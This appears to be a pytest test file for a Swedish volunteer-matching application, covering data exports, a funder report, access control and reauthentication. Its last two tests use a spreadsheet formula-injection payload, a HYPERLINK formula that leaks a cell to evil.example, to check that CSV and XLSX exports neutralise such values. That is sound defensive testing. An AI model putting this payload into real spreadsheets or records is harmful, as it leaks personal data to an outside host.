"""Exports (people, matches, a programme's pool) and the funder report, for the organisation's staff only."""

import io
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coordinator import services
from coordinator.models import Newcomer
from coordinator.selectors.reports import export_people
from tests import factories
from tests.conftest import recently_authenticated


@pytest.fixture
def year(solvik, sprakvan, alice):
    """A year of the programme: three matches, one ended; a newcomer still waiting."""
    amal = factories.newcomer(solvik, [sprakvan], birth_year=1994, target_group="nyanland", needs="Något känsligt")
    omar = factories.newcomer(
        solvik, [sprakvan], first_name="Omar", gender="male", birth_year=2010, target_group="ensamkommande"
    )
    hiba = factories.newcomer(solvik, [sprakvan], first_name="Hiba", birth_year=1980, target_group="asylsokande")
    factories.newcomer(solvik, [sprakvan], first_name="Väntar")
    karin = factories.volunteer(
        solvik,
        [sprakvan],
        capacity=3,
        background_check_date=date(2026, 1, 1),
        background_check_expires=date(2027, 1, 1),
    )
    services.match_create(programme=sprakvan, newcomer=amal, volunteer=karin, by=alice, started_on=date(2026, 2, 1))
    ended = services.match_create(
        programme=sprakvan, newcomer=omar, volunteer=karin, by=alice, started_on=date(2026, 3, 1)
    )
    services.match_end(match=ended, by=alice, reason="moved", on=date(2026, 6, 1))
    services.match_create(programme=sprakvan, newcomer=hiba, volunteer=karin, by=alice, started_on=date(2025, 5, 1))
    return amal


def test_people_export_in_the_templates_columns_without_free_text(client, alice, year):
    recently_authenticated(client, alice)
    response = client.get(reverse("export", args=["solvik", "newcomers", "csv"]))
    text = response.content.decode("utf-8-sig")
    assert response["Content-Disposition"] == 'attachment; filename="solvik-newcomers.csv"'
    assert text.splitlines()[0].startswith("Extern referens;Förnamn;Efternamn")
    assert "Amal;Haddad" in text and "arabiska, engelska" in text and "måndag kväll" in text
    assert "känsligt" not in text


def test_a_consent_given_after_midnight_in_sweden_is_exported_with_the_swedish_date(year):
    """23:30 UTC on 22 November is 00:30 on the 23rd in Stockholm: the export says the 23rd."""
    Newcomer.objects.filter(pk=year.pk).update(consent_given_at=datetime(2026, 11, 22, 23, 30, tzinfo=UTC))
    rows = export_people(organisation=year.organisation, kind="newcomers")
    column = rows[0].index("Samtycke lämnat")
    assert [r[column] for r in rows[1:] if r[1] == "Amal"] == ["2026-11-23"]


def test_an_export_can_be_imported_again_without_duplicates(client, alice, year):
    recently_authenticated(client, alice)
    exported = client.get(reverse("export", args=["solvik", "newcomers", "xlsx"])).content
    from coordinator.models import ImportBatch
    from tests.coordinator.test_import import upload

    upload(client, exported, name="export.xlsx", kind="newcomers")  # checked by the worker
    batch = ImportBatch.objects.get()
    assert batch.status == "ready" and len(batch.rows) == 4
    assert all(r["ok"] for r in batch.rows), [r["errors"] for r in batch.rows if r["errors"]]
    client.post(reverse("import_confirm", args=["solvik", batch.pk]))
    batch.refresh_from_db()
    assert batch.applied_at is not None and (batch.created_count, batch.updated_count) == (0, 4), batch.skipped_count
    assert Newcomer.objects.count() == 4


def test_matches_export_as_xlsx(client, alice, year):
    recently_authenticated(client, alice)
    book = load_workbook(io.BytesIO(client.get(reverse("export", args=["solvik", "matches", "xlsx"])).content))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][:3] == ("Program", "Nyanländ", "Volontär") and len(rows) == 4
    assert rows[3][:2] == ("Språkvän Solvik", "Omar Haddad") and rows[3][-1] == "Flyttat"


def test_the_pool_exports_as_the_engines_input(client, alice, year, sprakvan):
    from matching.format import load_problem

    recently_authenticated(client, alice)
    problem = load_problem(client.get(reverse("export_pool", args=[sprakvan.pk])).content)
    waiting = Newcomer.objects.filter(first_name__in=["Omar", "Väntar"]).order_by("pk")  # Omar is back after his match
    assert [n.id for n in problem.newcomers] == [f"n{n.pk}" for n in waiting]


def test_the_funder_report_counts_who_took_part_in_the_period(client, alice, year):
    client.force_login(alice)
    response = client.get(reverse("funder_report", args=["solvik"]), {"fran": "2026-01-01", "till": "2026-12-31"})
    report = response.context["report"]
    totals = dict(report["totals"])
    assert totals["Nyanlända som deltog"] == 3 and totals["Volontärer som deltog"] == 1
    assert totals["Matchningar som startade"] == 2 and totals["Matchningar som avslutades"] == 1
    tables = dict(report["tables"])
    assert dict(tables["Nyanlända per målgrupp"]) == {
        "Nyanländ (uppehållstillstånd)": 1,
        "Asylsökande": 1,
        "Ensamkommande barn": 1,
    }
    assert dict(tables["Avslutade matchningar per orsak"]) == {"Flyttat": 1}
    assert dict(tables["Nyanlända per åldersgrupp"])["0–17"] == 1
    assert dict(tables["Nyanlända per kön"]) == {"Kvinna": 2, "Man": 1}


def test_an_earlier_period_counts_only_what_was_open_then(client, alice, year):
    client.force_login(alice)
    report = client.get(
        reverse("funder_report", args=["solvik"]), {"fran": "2025-01-01", "till": "2025-12-31"}
    ).context["report"]
    assert dict(report["totals"])["Nyanlända som deltog"] == 1


def test_the_report_downloads_as_xlsx_and_pdf(client, alice, year):
    client.force_login(alice)
    query = {"fran": "2026-01-01", "till": "2026-12-31"}
    xlsx = client.get(reverse("funder_report_file", args=["solvik", "xlsx"]), query)
    book = load_workbook(io.BytesIO(xlsx.content))
    assert "Nyanlända per målgrupp" in book.sheetnames
    pdf = client.get(reverse("funder_report_file", args=["solvik", "pdf"]), query)
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")


def test_a_period_that_ends_before_it_starts_is_refused_at_its_field(client, alice, year):
    client.force_login(alice)
    response = client.get(reverse("funder_report", args=["solvik"]), {"fran": "2026-06-01", "till": "2026-01-01"})
    assert response.status_code == 400 and "före början" in " ".join(response.context["form"].errors["till"])


@pytest.mark.parametrize("persona", ["bob", "sam", "vera", "olle"])
def test_only_the_organisations_staff_export_or_report(client, persona, request, year, sprakvan):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(reverse("export", args=["solvik", "newcomers", "csv"])).status_code == 404
    assert client.get(reverse("funder_report", args=["solvik"])).status_code == 404
    assert client.get(reverse("export_pool", args=[sprakvan.pk])).status_code == 404


def test_an_export_asks_for_the_password_again_first(client, alice, year):
    client.force_login(alice)
    response = client.get(reverse("export", args=["solvik", "newcomers", "csv"]))
    assert response.status_code == 302 and "/konto/reauthenticate/" in response["Location"]


LIVE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_formula_like_text_is_neutralised_in_csv_and_xlsx_and_imports_back_unchanged(client, alice, year, start):
    value = start + 'HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'
    Newcomer.objects.filter(pk=year.pk).update(external_ref=value)
    recently_authenticated(client, alice)

    import csv

    csv_text = client.get(reverse("export", args=["solvik", "newcomers", "csv"])).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(csv_text, newline=""), delimiter=";") for c in row]
    assert "'" + value in cells, "a leading apostrophe: text, not a formula"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))]

    book = load_workbook(io.BytesIO(client.get(reverse("export", args=["solvik", "newcomers", "xlsx"])).content))
    cells = [c for row in book.active.iter_rows() for c in row if str(c.value).strip() == value.strip()]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), "stored as text, never as a formula"

    from coordinator.importing import read_rows

    for fmt in ("csv", "xlsx"):
        exported = client.get(reverse("export", args=["solvik", "newcomers", fmt])).content
        rows, _unknown = read_rows(f"export.{fmt}", exported)
        # read back as it was written (the importer trims the white space around any value)
        assert " ".join(value.split()) in [r.get("external_ref") for r in rows], fmt


def test_the_funder_reports_xlsx_holds_no_formula(client, alice, year):
    Newcomer.objects.update(locality=LIVE_FORMULA)  # a place name comes from the data
    recently_authenticated(client, alice)
    content = client.get(reverse("funder_report_file", args=["solvik", "xlsx"])).content
    book = load_workbook(io.BytesIO(content))
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
